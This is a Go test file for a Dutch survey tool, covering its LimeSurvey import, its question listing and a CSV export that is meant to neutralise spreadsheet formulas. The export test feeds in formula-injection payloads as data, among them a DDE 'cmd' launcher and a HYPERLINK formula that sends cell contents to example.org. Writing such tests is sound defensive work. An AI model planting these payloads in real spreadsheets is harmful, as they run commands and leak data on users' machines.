package scan

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/werkplaats-jeugd/kennisbank/internal/corpus"
)

// TestLimeSurveyImportFile reads the LimeSurvey import file as LimeSurvey's TSV importer does
// (tab-separated, a heading row, one row per survey setting, group, question and answer): a
// group per category, a list question per determinant coded as the scan reads it back, and the
// scale's answers with the codes the scan knows.
func TestLimeSurveyImportFile(t *testing.T) {
	m := mod(t)
	raw, err := m.Call("limeSurvey", "Implementatiescan")
	if err != nil {
		t.Fatal(err)
	}
	var text string
	_ = json.Unmarshal(raw, &text)
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff")))
	r.Comma = '\t'
	r.LazyQuotes = true
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	head := rows[0]
	col := func(row []string, name string) string { return row[slices.Index(head, name)] }
	var groups, questions []string
	answers := map[string][]string{}
	last := ""
	for _, row := range rows[1:] {
		switch col(row, "class") {
		case "G":
			groups = append(groups, col(row, "name"))
		case "Q":
			last = col(row, "name")
			questions = append(questions, last+"|"+col(row, "type/scale")+"|"+col(row, "text"))
		case "A":
			answers[last] = append(answers[last], col(row, "name"))
		}
	}
	var want []string
	team := corpus.RandomTeam(questionsOf(t), 3, 1)
	heads, _ := csv.NewReader(bytes.NewReader(team.LimeSurvey(true))).Read()
	for k, d := range kb.Determinants {
		code := fmt.Sprintf("D%02d", d.Number)
		want = append(want, code+"|L|"+d.Question)
		if heads[7+k] != code {
			t.Errorf("the LimeSurvey export fixture heads column %d %q; the import file codes it %s", 8+k, heads[7+k], code)
		}
		scale := "1 2 3 4 5 nvt"
		if d.Scale == "janeeweetniet" {
			scale = "ja nee wn nvt"
		}
		if strings.Join(answers[code], " ") != scale {
			t.Errorf("%s: answer codes %v, want %s", code, answers[code], scale)
		}
	}
	if len(groups) != 4 || !slices.Equal(questions, want) {
		t.Errorf("groups %v; questions\n%q\nwant\n%q", groups, questions, want)
	}
}

// TestFormsText lists every question and answer option exactly as the scan reads them back.
func TestFormsText(t *testing.T) {
	m := mod(t)
	raw, err := m.Call("formsText")
	if err != nil {
		t.Fatal(err)
	}
	var text string
	_ = json.Unmarshal(raw, &text)
	lines := strings.Split(text, "\r\n")
	for _, d := range kb.Determinants {
		if !slices.Contains(lines, d.Question) {
			t.Errorf("the list lacks the question of %s on a line of its own", d.ID)
		}
	}
	for _, option := range []string{"helemaal mee oneens", "mee oneens", "neutraal", "mee eens", "helemaal mee eens", "ja", "nee", "weet niet", "niet van toepassing"} {
		if !slices.Contains(lines, option) {
			t.Errorf("the list lacks the option %q", option)
		}
	}
}

// TestEmbeddedLogicIsTheProjects: the binary carries assets/scan as it is.
func TestEmbeddedLogicIsTheProjects(t *testing.T) {
	embedded, err := Embedded()
	if err != nil {
		t.Fatal(err)
	}
	onDisk, err := Bundle(root)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(embedded, onDisk) {
		t.Error("the embedded logic differs from assets/scan/*.ts")
	}
}

// TestAnswersCSVRunsNoFormula: a group name or heading from a team's file that a spreadsheet
// would run as a formula reaches the export behind an apostrophe, so that opening the file in
// Excel runs nothing; answer codes and a group named by a plain number stay as they are.
func TestAnswersCSVRunsNoFormula(t *testing.T) {
	m := mod(t)
	hostile := []string{`=HYPERLINK("https://example.org/?"&A1;"klik")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
	plain := []string{"-3", "+31", "12,5", "Teamleider"}
	values := append(append([]string{}, hostile...), plain...)
	var resp []map[string]string
	for range values {
		resp = append(resp, map[string]string{kb.Determinants[0].ID: "2"})
	}
	raw, err := m.Call("answersCSV", resp, map[string]any{"heading": "=Functie()", "values": values})
	if err != nil {
		t.Fatal(err)
	}
	var text string
	_ = json.Unmarshal(raw, &text)
	r := csv.NewReader(strings.NewReader(text))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the export is no CSV: %v\n%s", err, text)
	}
	if rows[0][1] != "'=Functie()" {
		t.Errorf("the group heading is written %q, want it behind an apostrophe", rows[0][1])
	}
	for i, v := range values {
		want := v
		if i < len(hostile) {
			want = "'" + v
		}
		if got := rows[i+1][1]; got != want {
			t.Errorf("group value %q is written %q, want %q", v, got, want)
		}
		if got := rows[i+1][2]; got != "2" {
			t.Errorf("an answer code is written %q, want 2", got)
		}
	}
}
